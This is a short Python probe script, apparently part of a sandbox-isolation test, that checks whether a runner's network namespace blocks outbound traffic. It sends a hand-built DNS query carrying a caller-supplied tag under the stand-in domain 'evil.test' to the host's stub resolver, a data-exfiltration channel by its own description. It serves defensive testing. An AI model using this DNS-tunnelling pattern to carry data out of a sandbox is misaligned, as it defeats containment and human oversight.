"""DNS: send a question (a way to carry data out) to the host's stub resolver. Fake resolver in the runner's own network namespace."""
import os, sys

A = dict((x.split("=", 1) for x in sys.argv[1:]))
bad = []
n = 0


def done():
    print("BROKE: " + "; ".join(bad) if bad else "HELD: %d attempts refused" % n, flush=True)
    sys.exit(1 if bad else 0)


import socket


def tcp(addr, port, fam=None):
    global n
    n += 1
    try:
        s = socket.socket(fam or socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect((addr, port))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        d = s.recv(100)
        bad.append("tcp %s:%s answered %r" % (addr, port, d[:60]))
    except OSError as e:
        print("  ", addr, port, e)


def udp(addr, port, msg=b"hello", fam=None):
    global n
    n += 1
    try:
        s = socket.socket(fam or socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(msg, (addr, port))
        d = s.recv(200)
        bad.append("udp %s:%s answered %r" % (addr, port, d[:60]))
    except OSError as e:
        print("  ", addr, port, e)


def unix(path, typ=socket.SOCK_STREAM):
    global n
    n += 1
    try:
        s = socket.socket(socket.AF_UNIX, typ)
        s.settimeout(2)
        s.connect(path)
        if typ != socket.SOCK_STREAM:
            s.send(b"x")
            bad.append("unix %r reached" % path)
            return
        s.sendall(b"hi\n")
        bad.append("unix %r answered %r" % (path, s.recv(100)[:60]))
    except OSError as e:
        print("  ", path, e)


q = (
    b"\x124\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    + bytes([len(A["tag"])])
    + A["tag"].encode()
    + b"\x04evil\x04test\x00\x00\x01\x00\x01"
)
udp("127.0.0.53", 53, q)
done()
